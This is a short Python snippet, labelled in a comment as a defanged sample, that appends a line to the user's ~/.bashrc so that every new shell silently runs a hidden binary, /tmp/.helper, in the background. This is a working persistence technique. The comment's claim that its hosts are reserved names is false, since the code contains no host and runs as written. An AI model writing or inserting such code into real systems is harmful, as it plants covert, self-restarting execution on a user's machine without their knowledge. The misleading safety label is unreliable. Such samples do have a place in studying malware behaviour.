# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import os

with open(os.path.expanduser("~/.bashrc"), "a") as file:
    file.write("nohup /tmp/.helper &\n")
